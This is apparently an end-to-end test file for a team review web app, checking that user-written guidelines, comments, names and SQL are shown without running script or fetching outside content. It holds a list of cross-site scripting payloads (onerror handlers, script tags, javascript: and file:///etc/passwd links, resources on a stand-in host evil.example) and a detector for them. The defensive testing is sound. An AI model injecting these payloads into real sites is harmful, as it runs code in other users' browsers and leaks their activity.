import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import type { BrowserContext, Locator, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { WebSocket as NodeSocket } from "ws";
import { distFolder, ensureBuilt } from "../../build/build.ts";
import type { ServedTeam } from "../../electron/commands/command.ts";
import { startTeamHost } from "../../electron/hosts/web/start-team-host.ts";
import { forkProcess } from "../../electron/processes/fork-process.ts";
import { clientOver } from "../../renderer/host/client-over.ts";
import type { Client } from "../../renderer/host/connection.ts";
import { ReconnectingSocket } from "../../renderer/host/reconnecting-socket.ts";
import { emptyJudgement } from "../../shared/domain/verdict.ts";
import { closeSharedBrowser, sharedBrowser } from "../support/browser.ts";
import { testPaths } from "../support/program-paths.ts";
import { runQuerent } from "../support/run-querent.ts";
import { prediction, writeDatabase } from "../support/test-workspace.ts";
import { patience, showsItem } from "./support/review-page.ts";

const take = "document.title='taken'";
/** A name as long as one may be, that would run where it were HTML. */
const name = (who: string) => `${who} <img src=x onerror="${take}">`;
const project = name("Harbour");

/** What somebody may write who would run something in others' windows, or hear that they read it. */
const hostile = [
  `<img src="http://evil.example/pixel.png" onerror="${take}"> <img src=x onerror="${take}">`,
  `<script>${take}</script><script src="http://evil.example/a.js"></script>`,
  `<svg onload="${take}"></svg><iframe srcdoc="<script>parent.${take}</script>"></iframe><object data="http://evil.example/"></object>`,
  `<style>@import url(http://evil.example/a.css)</style><link rel="stylesheet" href="http://evil.example/b.css">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">`,
  `<form action="http://evil.example/"><input autofocus onfocus="${take}"><button>Sign in</button></form>`,
  `<a href="javascript:${take}" onmouseover="${take}">read on</a>`,
  `[one](javascript:${take}) [two](JaVaScRiPt:${take}) [three](&#106;avascript:${take}) [four](java&Tab;script:${take})`,
  "[five](data:text/html,<script>parent.document.title='taken'</script>) [six](vbscript:x) [seven](file:///etc/passwd) [eight](blob:x)",
  `[nine][ref] <javascript:${take}>`,
  `[ref]: javascript:${take} "title"`,
  `![image](http://evil.example/b.png) ![image](javascript:${take}) ![image](data:image/svg+xml,<svg/onload=${take}>)`,
  "![image][picture]",
  "[picture]: http://evil.example/c.png",
  `| cell |\n| --- |\n| <img src=x onerror="${take}"> |`,
  "- [ ] <iframe src=http://evil.example/></iframe>",
  "```html\n<img src=http://evil.example/d.png>\n```",
  "$\\href{javascript:x}{y} \\includegraphics{http://evil.example/e.png}$",
  "https://evil.example/only-a-link",
].join("\n\n");
const oneLine = `<img src="http://evil.example/f.png" onerror="${take}"><script>${take}</script> [a](javascript:${take})`;

/** What would run, be fetched or lead into a script in a page. */
const dangers = () =>
  [...document.querySelectorAll("*")].flatMap((element) => [
    ...(element.matches(
      "iframe, object, embed, base, meta[http-equiv], form[action], img[src*=evil], img[src=x]",
    )
      ? [element.outerHTML]
      : []),
    ...(/evil\.example/.test(element.matches("script, style, link") ? element.outerHTML : "")
      ? [element.outerHTML]
      : []),
    ...[...element.attributes]
      .filter(
        ({ name, value }) =>
          /^on/i.test(name) ||
          (/href|src|action|srcdoc/i.test(name) && /^\s*(javascript|data|vbscript|file|blob):/i.test(value)),
      )
      .map(({ name, value }) => `${element.tagName} ${name}="${value}"`),
  ]);

describe("what the people of a team write to each other", () => {
  const folder = mkdtempSync(path.join(tmpdir(), "querent-hostile-team-"));
  const workspacePath = path.join(folder, "host.querent");
  const contexts: BrowserContext[] = [];
  /** What went beyond the host, asked something, or was held back by the page's policy. */
  const heard: string[] = [];
  let served: ServedTeam;

  const where = ["--workspace", workspacePath, "--project", project];
  async function linkOf(who: string, role: string): Promise<string> {
    const invited = await runQuerent(
      ...["people", "invite", ...where, "--name", name(who), "--role", role, "--url", served.url],
    );
    return String(invited.results[0]?.link);
  }

  /** A signed-in person's calls, without a page that would hold anything back. */
  async function clientOf(who: string, role: string): Promise<Client> {
    const token = new URL(await linkOf(who, role)).hash.slice("#join=".length);
    const headers = { origin: served.url };
    const answer = await fetch(`${served.url}/session`, { method: "POST", headers, body: token });
    const cookie = answer.headers.getSetCookie()[0]?.split(";")[0] ?? "";
    const address = `${served.url.replace(/^http/, "ws")}/rpc`;
    const connection = new ReconnectingSocket({
      open() {
        const socket = new NodeSocket(address, ["querent"], { headers: { ...headers, cookie } });
        socket.on("error", () => undefined);
        return socket as unknown as WebSocket;
      },
      status: async () => "signed-out",
      pause: async () => undefined,
    });
    await connection.settled();
    return clientOver(connection);
  }

  async function signedIn(who: string, role: string): Promise<Page> {
    const context = await (await sharedBrowser()).newContext({ viewport: { width: 1440, height: 900 } });
    contexts.push(context);
    const page = await context.newPage();
    await page.exposeFunction("hear", (what: string) => void heard.push(what));
    await page.addInitScript(() => {
      document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
        (window as unknown as { hear(what: string): void }).hear(`${violatedDirective} ${blockedURI}`),
      );
    });
    context.on("request", (request) => {
      if (!/^(data:|blob:)/.test(request.url()) && !request.url().startsWith(served.url))
        heard.push(request.url());
    });
    context.on("page", (other) => heard.push(`another page: ${other.url()}`));
    page.on("dialog", (dialog) => void heard.push(dialog.message()));
    page.on("pageerror", (error) => void heard.push(error.message));
    await page.goto(await linkOf(who, role));
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("navigation", { name: "Screens" }).waitFor(patience);
    return page;
  }

  async function isHarmless(page: Page): Promise<void> {
    expect(await page.evaluate(dangers)).toEqual([]);
    expect(await page.title()).not.toContain("taken");
    expect(page.url().startsWith(served.url)).toBe(true);
    expect(heard).toEqual([]);
  }

  /** Its links are the addresses of the web that it names, which learn nothing of where they are opened from. */
  async function leadsOutAlone(part: Locator): Promise<void> {
    const links = await part
      .getByRole("link")
      .evaluateAll((found) => found.map((link) => [link.getAttribute("href"), link.getAttribute("rel")]));
    expect(links).toContainEqual(["https://evil.example/only-a-link", "noreferrer noopener"]);
    for (const link of links)
      expect(link).toEqual([expect.stringMatching(/^https?:\/\/evil\.example\//), "noreferrer noopener"]);
  }

  beforeAll(async () => {
    await ensureBuilt("renderer");
    writeDatabase(folder);
    const sql = `SELECT '${oneLine.replaceAll("'", "''")}' AS "<img src=x onerror=alert(1)>" -- ${oneLine}`;
    const fields = { question: oneLine, evidence: oneLine, predicted_sql: sql, gold_sql: sql };
    const file = path.join(folder, "a <img src=x>.json");
    writeFileSync(file, JSON.stringify([prediction(0, fields), prediction(1)]));
    const imported = await runQuerent(
      ...["predictions", "import", ...where, "--input", file, "--databases", folder],
    );
    expect(imported.code).toBe(0);
    served = await startTeamHost(
      {
        ...{ workspacePath, listenOn: "127.0.0.1", port: 0, tls: null },
        ...{ publicUrl: null, trustedProxies: [], allow: true, note: () => undefined },
      },
      {
        ...{ version: "0.0.0-test", startProcess: forkProcess, paths: testPaths },
        rendererDir: distFolder("renderer"),
      },
    );
    const [lea, ann, bert] = [
      await clientOf("Lea", "lead"),
      await clientOf("Ann", "reviewer"),
      await clientOf("Bert", "reviewer"),
    ];
    const [{ id: projectId = 0 } = {}] = await lea.projects.list();
    const [itemId = 0] = await lea.queue.ids({ projectId, filter: {} });
    await lea.guidelines.save({ projectId, baseVersion: 0, text: hostile });
    const save = (who: Client, label: string) =>
      who.verdicts.save({
        ...{ itemId, baseRevision: 0, saveId: crypto.randomUUID() },
        judgement: { ...emptyJudgement, label, note: hostile, correctedSql: `SELECT 1 -- ${oneLine}` },
      });
    await save(ann, "yes");
    await save(bert, "no");
    const text = `${hostile}\n\n@${name("Bert")} @${name("Lea")}`;
    const [{ threadId = 0 } = {}] = await ann.comments.start({ subject: { itemId }, topic: null, text });
    await bert.comments.reply({ threadId, text: hostile });
    const [opinion] = (await lea.disagreements.item({ itemId })).opinions;
    await lea.disagreements.ask({ itemId, opinion: opinion?.key ?? "", question: oneLine });
  });
  afterAll(async () => {
    for (const context of contexts) await context.close();
    await served?.close();
    await closeSharedBrowser();
    rmSync(folder, { recursive: true, force: true });
  });

  test("runs nothing and fetches nothing in the window of a reviewer", async () => {
    const page = await signedIn("Bert", "reviewer");
    await page.getByRole("navigation", { name: "Screens" }).getByRole("button", { name: "Review" }).click();
    await showsItem(page, 1);
    await isHarmless(page);
    await page.keyboard.press("o");
    const others = page.getByRole("dialog", { name: "Other reviewers' verdicts" });
    await others.getByText(name("Ann")).first().waitFor(patience);
    await others.getByText("evil.example/pixel.png").first().waitFor(patience);
    await isHarmless(page);
    await page.keyboard.press("Escape");
    await others.waitFor({ state: "detached" });
    await page.keyboard.press("h");
    await page.getByRole("dialog", { name: "History of this verdict" }).waitFor(patience);
    await isHarmless(page);
    await page.keyboard.press("Escape");
    await page.keyboard.press("l");
    const guidelines = page.getByRole("region", { name: "Guidelines", exact: true });
    await guidelines.getByRole("link").first().waitFor(patience);
    await leadsOutAlone(guidelines);
    await isHarmless(page);
    await page.keyboard.press("Alt+b");
    const threads = page.getByRole("list", { name: "Threads", exact: true });
    await threads.getByRole("link").first().waitFor(patience);
    await leadsOutAlone(threads);
    await isHarmless(page);
    await page.keyboard.press("Escape");
    await page.keyboard.press("g");
    await page.keyboard.press("m");
    await page.getByRole("dialog", { name: "Inbox" }).getByRole("option").first().waitFor(patience);
    await isHarmless(page);
  });

  test("runs nothing and fetches nothing in the window of a lead", async () => {
    const page = await signedIn("Lea", "lead");
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox").fill("people of");
    await page.getByRole("option", { name: "People of this project…" }).waitFor(patience);
    await page.keyboard.press("Enter");
    const people = page.getByRole("dialog", { name: `People of ${project}` });
    await people.getByRole("listitem", { name: name("Ann") }).waitFor(patience);
    await people.getByRole("button", { name: "Audit log" }).click();
    await people
      .getByText(/signed in from/)
      .first()
      .waitFor(patience);
    await isHarmless(page);
    await page.keyboard.press("Escape");
    await people.waitFor({ state: "detached" });
    await page.keyboard.press("g");
    await page.keyboard.press("q");
    await page.getByRole("region", { name: "Opinion A" }).waitFor(patience);
    await page.getByText("evil.example/pixel.png").first().waitFor(patience);
    await isHarmless(page);
  });
});
